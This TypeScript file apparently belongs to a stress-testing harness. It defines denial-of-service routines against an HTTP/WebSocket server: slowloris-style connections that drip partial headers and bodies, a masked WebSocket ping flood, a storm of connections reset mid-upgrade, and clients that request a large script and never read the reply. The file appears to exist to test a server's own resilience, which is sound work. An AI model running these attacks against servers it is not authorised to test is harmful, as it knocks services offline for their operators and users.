// What is done with connections before anybody has said who they are.
import type { Socket } from 'node:net';
import { pick, strike, type Attack, type Siege } from './attack.ts';
import { deafStream } from './line.ts';

const HEAD = 'POST /api/me HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 9000\r\n';
const UPGRADE = [
  'Host: x',
  'Connection: Upgrade',
  'Upgrade: websocket',
  'Sec-WebSocket-Version: 13',
  'Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==',
  '\r\n',
].join('\r\n');
/** A ping with a hundred bytes in it, masked with zeros, six hundred times. */
const PINGS = Buffer.concat(
  Array.from({ length: 600 }, () =>
    Buffer.concat([Buffer.from([0x89, 0x80 | 100, 0, 0, 0, 0]), Buffer.alloc(100)]),
  ),
);
/** As a client may keep open before it is told off by its own system. */
const MOST_HELD = 500;

/** Opens connections that say something and then hold on. */
function hold(name: string, said: string, everyMs: number): Attack {
  return {
    name,
    addresses: 1,
    async run(siege, [from = '']) {
      const held = new Set<Socket>();
      await strike(siege, { name, everyMs }, () => {
        if (held.size >= MOST_HELD) return;
        const socket = deafStream(siege.url, from);
        held.add(socket);
        socket.once('close', () => held.delete(socket));
        // Who drips says a little more now and then, so as not to look idle.
        const drip = setInterval(() => socket.write(' '), 1000);
        socket.once('close', () => clearInterval(drip));
        socket.write(said);
      });
      for (const socket of held) socket.destroy();
    },
  };
}

const pingFlood: Attack = {
  name: 'ping flood',
  addresses: 2,
  async run(siege, from) {
    const streams: Socket[] = [];
    await strike(siege, { name: 'ping flood', everyMs: 20 }, (count) => {
      const place = count % 8;
      if (!streams[place] || streams[place].destroyed) {
        streams[place] = deafStream(siege.url, pick(from, count) ?? '');
        streams[place].write(`GET /ws HTTP/1.1\r\n${UPGRADE}`);
      }
      // Only as much as the other side takes: this machine has to keep the rest.
      if (streams[place].writableLength === 0) streams[place].write(PINGS);
    });
    for (const stream of streams) stream.destroy();
  },
};

/** Comes and goes: hangs up at once, in the middle of an upgrade, or while being turned away. */
const storm: Attack = {
  name: 'connection storm',
  addresses: 2,
  async run(siege: Siege, from) {
    const words = [
      '',
      'GET / HTTP/1.1\r\n',
      `GET /nowhere HTTP/1.1\r\n${UPGRADE}`,
      `GET /ws HTTP/1.1\r\n${UPGRADE}`,
    ];
    await strike(siege, { name: 'connection storm', everyMs: 8, atOnce: 100 }, (count) => {
      const socket = deafStream(siege.url, pick(from, count) ?? '');
      socket.once('connect', () => {
        socket.write(pick(words, count) ?? '', () => socket.resetAndDestroy());
      });
    });
  },
};

/** Asks for something large and never reads it. */
const deafReaders: Attack = {
  name: 'answers not read',
  addresses: 1,
  async run(siege, [from = '']) {
    const held: Socket[] = [];
    await strike(siege, { name: 'answers not read', everyMs: 300 }, (count) => {
      held[count % 60]?.destroy();
      const socket = deafStream(siege.url, from);
      held[count % 60] = socket;
      socket.write('GET /api/docs/static/swagger-ui-bundle.js HTTP/1.1\r\nHost: x\r\n\r\n'.repeat(4));
    });
    for (const socket of held) socket.destroy();
  },
};

export const CONNECTIONS: readonly Attack[] = [
  pingFlood,
  hold('half bodies', `${HEAD}\r\n{"name":"`, 30),
  hold('half heads', HEAD, 30),
  hold('silence', '', 60),
  storm,
  deafReaders,
];
